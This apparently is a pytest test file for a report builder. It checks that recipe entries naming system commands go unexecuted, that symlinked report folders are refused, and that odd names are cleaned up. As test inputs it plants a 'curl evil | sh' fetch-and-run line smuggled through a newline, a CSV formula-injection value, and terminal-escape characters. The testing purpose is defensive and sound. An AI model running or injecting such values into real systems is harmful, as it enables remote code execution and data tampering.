"""Reports on folders that somebody handed over."""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path

import pytest

from layerlink.errors import LayerlinkError, UsageError
from layerlink.lab.report.building import write_report
from layerlink.lab.report.files import write_csv


@pytest.fixture
def given(study: Path, teacher_run: Path, tmp_path: Path) -> Path:
    """Two rows and their teacher; the links' recipe names code."""
    folder = Path(shutil.copytree(study, tmp_path / "given"))
    for run in folder.glob("links-*"):
        file = run / "recipe.yaml"
        called = f"student:\n  model: os:system\n  arguments:\n    command: touch {tmp_path}/CALLED\n"
        file.write_text(re.sub(r"(?m)^student:\n(  .*\n)+", called, file.read_text()))
    return folder


def test_a_row_whose_code_is_not_trusted_is_left_unmeasured_and_the_report_goes_on(given: Path, tmp_path: Path) -> None:
    written = write_report([given], tmp_path / "report")
    assert re.search(r"“links” was not measured: .*names code.*student.model os:system.*--trust-code", written.left_out)
    rows = list(csv.DictReader((tmp_path / "report" / "tables" / "models.csv").read_text().splitlines()))
    assert [row["name"] for row in rows] == ["teacher", "labels only"]
    assert "student.model os:system" in written.page.read_text()
    assert not (tmp_path / "CALLED").exists()
    for run in given.glob("labels*"):
        shutil.rmtree(run)
    assert "“links” was not measured" in write_report([given], tmp_path / "again").left_out
    assert not (tmp_path / "CALLED").exists()


def test_a_teacher_that_is_code_is_not_called_either(study: Path, tmp_path: Path) -> None:
    folder = Path(shutil.copytree(study, tmp_path / "given"))
    for run in folder.glob("links-*"):
        file = run / "recipe.yaml"
        called = f"teacher:\n  model: os:system\n  arguments:\n    command: touch {tmp_path}/CALLED\n  weights: own\n"
        file.write_text(re.sub(r"(?m)^teacher:\n(  .*\n)+", called, file.read_text()))
    written = write_report([folder], tmp_path / "report")
    assert "teacher.model os:system" in written.left_out
    assert not (tmp_path / "CALLED").exists()


def test_a_report_is_written_into_its_own_folder(study: Path, tmp_path: Path) -> None:
    folder, other = Path(shutil.copytree(study, tmp_path / "given")), tmp_path / "other"
    other.mkdir()
    (folder / "report").symlink_to(other)
    with pytest.raises(UsageError, match="is a link, and a report is written into a folder"):
        write_report([folder], measure=0)
    (folder / "report").unlink()
    (folder / "report").mkdir()
    (folder / "report" / "tables").symlink_to(other)
    with pytest.raises(LayerlinkError, match="leads out of"):
        write_report([folder], measure=0)
    assert not list(other.iterdir())


def test_names_are_one_line_of_letters_everywhere(study: Path, tmp_path: Path) -> None:
    folder = Path(shutil.copytree(study, tmp_path / "given"))
    odd = "=cmd()\x1b[31m\u202eabc\nnext\ufffe"
    facts = json.loads((folder / "links-0" / "environment.json").read_text())
    (folder / "links-0" / "environment.json").write_text(json.dumps({**facts, "commit": "x\ncurl evil | sh\n#"}))
    rows = [
        {"name": name, "changes": {"soft.temperature": odd}, "runs": {"0": f"{run}-0", "1": f"{run}-1"}}
        for name, run in (("labels only", "labels only"), (odd, "links"))
    ]
    manifest = {"name": "x", "title": odd, "question": odd, "source": odd, "command": odd, "rows": rows}
    (folder / "sweep.json").write_text(json.dumps(manifest))
    write_report([folder], tmp_path / "report", measure=0)
    files = [path for path in (tmp_path / "report").rglob("*") if path.is_file()]
    assert {path.suffix for path in files} == {".html", ".md", ".csv", ".svg"}
    for path in files:
        text = path.read_text()
        for letter in ("\x1b", "\u202e", "\ufffe"):
            assert letter not in text, path
        assert not re.search(r"(?m)^(next|curl evil)", text), path
    names = [
        row["row"] for row in csv.DictReader((tmp_path / "report" / "tables" / "results.csv").read_text().splitlines())
    ]
    assert names[1] == r"'=cmd()\x1b[31m\u202eabc\nnext\ufffe"


def test_numbers_in_a_csv_stay_numbers(tmp_path: Path) -> None:
    write_csv(tmp_path / "it.csv", [{"@name": "-x", "n": -1.5, "none": None}])
    assert (tmp_path / "it.csv").read_text() == "'@name,n,none\n'-x,-1.5,\n"
